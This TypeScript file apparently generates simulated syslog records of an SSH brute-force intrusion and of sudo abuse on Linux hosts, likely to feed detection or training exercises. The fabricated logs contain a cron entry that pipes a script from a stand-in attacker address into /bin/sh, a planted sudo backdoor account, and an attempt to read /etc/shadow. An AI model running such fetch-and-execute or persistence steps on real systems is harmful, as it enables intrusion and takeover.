import { forwarded, type Happening, type Line } from '../line.ts'
import { auth, authpriv, cron, sudoPriority } from '../lines/linux.ts'

/** A stranger guesses passwords at the bastion until one fits, becomes root and stays. */
export const bruteForce: Happening = ({ random }, at) => {
  const host = 'bastion-01'
  const from = `203.0.113.${random.whole(40, 90)}`
  const lines: Line[] = []
  const names = ['admin', 'root', 'test', 'ketoan', 'vanthu', 'quantri', 'backup', 'deploy']
  let time = at
  for (let i = 0; i < 140; i++) {
    const name = names[i % names.length] ?? 'root'
    const who = name === 'root' ? 'root' : `invalid user ${name}`
    lines.push(
      forwarded(
        time,
        auth,
        host,
        `sshd[${21_000 + i}]`,
        `Failed password for ${who} from ${from} port ${40_100 + 7 * i} ssh2`,
      ),
    )
    time += random.whole(150, 900)
  }
  for (let i = 0; i < 9; i++) {
    lines.push(
      forwarded(
        time,
        auth,
        host,
        `sshd[${21_200 + i}]`,
        `Failed password for tuan.le from ${from} port ${42_000 + i} ssh2`,
      ),
    )
    time += random.whole(400, 1200)
  }
  const say = (after: number, priority: number, tag: string, message: string) =>
    lines.push(forwarded(time + after, priority, host, tag, message))
  say(900, auth, 'sshd[21300]', `Accepted password for tuan.le from ${from} port 42100 ssh2`)
  say(920, authpriv, 'sshd[21300]', 'pam_unix(sshd:session): session opened for user tuan.le(uid=1004) by (uid=0)')
  say(9000, sudoPriority, 'sudo', 'tuan.le : TTY=pts/2 ; PWD=/home/tuan.le ; USER=root ; COMMAND=/bin/bash')
  say(
    31_000,
    authpriv,
    'useradd[21340]',
    'new user: name=svc-backup, UID=1011, GID=1011, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/2',
  )
  say(44_000, authpriv, 'usermod[21360]', "add 'svc-backup' to group 'sudo'")
  say(60_000, cron, 'crontab[21401]', '(root) REPLACE (root)')
  say(120_000, cron, 'CRON[21430]', `(root) CMD (/usr/bin/curl -fsS http://${from}/u.sh | /bin/sh)`)
  return lines
}

/** Somebody of the staff who may not, tries to become root, and at last does. */
export const sudoAbuse: Happening = ({ random, province }, at) => {
  const host = random.pick(province.of('app')).name
  const user = random.pick(province.people)
  const lines: Line[] = []
  const say = (after: number, priority: number, tag: string, message: string) =>
    lines.push(forwarded(at + after, priority, host, tag, message))
  say(
    0,
    sudoPriority,
    'sudo',
    `${user} : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/${user} ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow`,
  )
  say(
    22_000,
    sudoPriority,
    'sudo',
    `${user} : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/${user} ; USER=root ; COMMAND=/bin/bash`,
  )
  say(
    50_000,
    authpriv,
    'su[4410]',
    `pam_unix(su:auth): authentication failure; logname=${user} uid=1007 euid=0 tty=pts/1 ruser=${user} rhost=  user=root`,
  )
  say(51_000, auth, 'su[4410]', `FAILED SU (to root) ${user} on pts/1`)
  say(90_000, sudoPriority, 'sudo', 'quantri.loan : TTY=pts/3 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/su -')
  say(130_000, authpriv, 'passwd[4490]', 'pam_unix(passwd:chauthtok): password changed for root')
  return lines
}
